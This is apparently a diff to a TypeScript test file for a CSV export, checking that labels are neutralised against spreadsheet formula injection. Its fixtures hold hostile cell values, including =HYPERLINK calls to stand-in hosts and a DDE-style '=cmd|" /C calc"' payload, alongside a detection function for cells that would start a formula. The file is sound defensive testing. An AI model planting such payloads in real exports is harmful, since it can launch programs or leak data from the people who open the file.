@@ -16,9 +16,14 @@ const HOSTILE = [
   'quote " and, comma',
   '\u202eevil\u202c',
   'Полиция',
+  'North,=HYPERLINK("http://x/?q="&A2),-2+3',
+  'South;=HYPERLINK("http://x/");+1;@SUM(A1)',
+  'East, "=1+1"; "-2"',
+  '"=quoted"',
+  'West;\t=1,\r-1',
 ];
 
-function report() {
+function report(compare = false) {
   const count = (respondents: number) => ({ respondents, incidents: respondents, cellKey: respondents * 7 });
   const raw: RawAggregates = {
     crossTab: HOSTILE.map((_, i) => ({ row: `p${i}`, col: `a${i}`, ...count(10 + i) })),
@@ -26,10 +31,36 @@ function report() {
     columnTotals: HOSTILE.map((_, i) => ({ col: `a${i}`, ...count(10 + i) })),
     total: count(200),
     unasked: [],
-    breakdowns: Object.fromEntries(BREAKDOWNS.map((b) => [b, []])) as unknown as RawAggregates['breakdowns'],
+    breakdowns: Object.fromEntries(BREAKDOWNS.map((b) => [b, compare ? HOSTILE.map((_, i) => ({ key: `b${i}`, ...count(10 + i) })) : []])) as unknown as RawAggregates['breakdowns'],
+    ...(compare
+      ? {
+          comparison: {
+            units: HOSTILE.map((_, i) => ({ unit: `u${i}`, ...count(20 + i) })),
+            cells: HOSTILE.flatMap((_, u) => HOSTILE.map((_, c) => ({ unit: `u${u}`, col: `a${c}`, ...count(10 + c) }))),
+            unasked: [],
+          },
+        }
+      : {}),
   };
   const labels = (_vocabulary: string, code: string) => HOSTILE[Number(code.slice(1))];
-  return buildReport(raw, { perpetrators: 'type', abuses: 'type', lang: 'en', k: 5, perturbation: null }, labels);
+  // Labels reach the file from every filter too: countries, regions, region groups, genders, age bands, work settings.
+  const filters = compare
+    ? { countries: ['c13'], regions: ['r14'], regionGroups: ['g10', 'g11'], genders: ['x12'], ageBands: ['y3'], workSettings: ['z0'], compareBy: 'region_group' as const }
+    : {};
+  return buildReport(raw, { perpetrators: 'type', abuses: 'type', lang: 'en', k: 5, perturbation: null, ...filters }, labels);
+}
+
+/**
+ * Reads a CSV file as a spreadsheet that ignores quoting would: each line split
+ * at commas and at semicolons, leading spaces and quotes dropped. The cells
+ * that would start a formula.
+ */
+function formulaCells(csv: string): string[] {
+  return csv
+    .split(/\r\n|\r|\n/)
+    .flatMap((line) => line.split(/[,;]/))
+    .map((cell) => cell.replace(/^[ "]+/, ''))
+    .filter((cell) => /^[=+\-@\t\r]/.test(cell));
 }
 
 describe('CSV export', () => {
@@ -47,10 +78,48 @@ describe('CSV export', () => {
       expect(row).toHaveLength(CSV_HEADER.length);
     }
     const labels = new Set(body.flatMap((r) => [r[2], r[4]]).filter(Boolean));
-    for (const hostile of HOSTILE) {
-      const expected = /^[=+\-@\t\r]/.test(hostile) ? `'${hostile}` : hostile;
-      expect(labels.has(expected)).toBe(true);
+    // The same text back, with an apostrophe wherever a formula could start.
+    const inert = [
+      `'=HYPERLINK("http://evil.example","click")`,
+      `'+1+1`,
+      `'-2+3`,
+      `'@SUM(A1:A2)`,
+      `'\t=1+1`,
+      `'\r'=1+1`,
+      `line\r\n'=cmd|" /C calc"!A0`,
+      `quote " and, comma`,
+      '\u202eevil\u202c',
+      'Полиция',
+      `North,'=HYPERLINK("http://x/?q="&A2),'-2+3`,
+      `South;'=HYPERLINK("http://x/");'+1;'@SUM(A1)`,
+      `East, "'=1+1"; "'-2"`,
+      `'"=quoted"`,
+      `West;'\t=1,'\r'-1`,
+    ];
+    expect(inert).toHaveLength(HOSTILE.length);
+    for (const expected of inert) expect([expected, labels.has(expected)]).toEqual([expected, true]);
+  });
+
+  it('has no cell that starts a formula, in the description block or the data, split at commas and semicolons, for labels in every place', () => {
+    for (const compare of [false, true]) {
+      const csv = toCsv(report(compare));
+      expect(formulaCells(csv)).toEqual([]);
+      const block = csv.split('\n').filter((l) => l.startsWith('# '));
+      expect(block.length).toBeGreaterThan(8);
+      // A strict CSV reader that skips the block still reads the data.
+      expect(parse(csv, { comment: '#', comment_no_infix: true })[0]).toEqual(CSV_HEADER);
+      if (compare) {
+        // The hostile labels did reach the description (filters, bases) and the comparison: there, made inert.
+        const text = block.join('\n');
+        expect(text).toContain(`Region groups: "North,'=HYPERLINK(""http://x/?q=""&A2),'-2+3, South;'=HYPERLINK(""http://x/"");'+1;'@SUM(A1)"`);
+        for (const hostile of [13, 14, 12, 3, 0]) expect(text).toContain(csvField(HOSTILE[hostile].replace(/[\r\n]+/g, ' ')).replace(/^"|"$/g, ''));
+        const rows: string[][] = parse(csv, { comment: '#', comment_no_infix: true });
+        expect(rows.some((r) => r[0] === 'compare_region_group' && r[2] === `West;'\t=1,'\r'-1`)).toBe(true);
+        expect(rows.some((r) => r[0] === 'by_gender' && r[2] === `North,'=HYPERLINK("http://x/?q="&A2),'-2+3`)).toBe(true);
+      }
     }
+    // The check finds what the old header block wrote: a label unquoted after "# filters:".
+    expect(formulaCells('# filters: Region groups: North,=HYPERLINK("http://x/?q="&A2),-2+3\n')).toEqual(['=HYPERLINK("http://x/?q="&A2)', '-2+3']);
   });
 
   it('quotes and neutralises cell by cell', () => {
@@ -58,6 +127,10 @@ describe('CSV export', () => {
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField('x\ry')).toBe('"x\ry"');
+    expect(csvField('a;b')).toBe('"a;b"');
+    expect(csvField('a;=b')).toBe(`"a;'=b"`);
+    expect(csvField('"=x"')).toBe(`"'""=x"""`);
+    expect(csvField('25-34, 35-44')).toBe('"25-34, 35-44"');
     expect(csvField('\t=x')).toBe("'\t=x");
     expect(csvField(-3)).toBe('-3');
     expect(csvField(null)).toBe('');
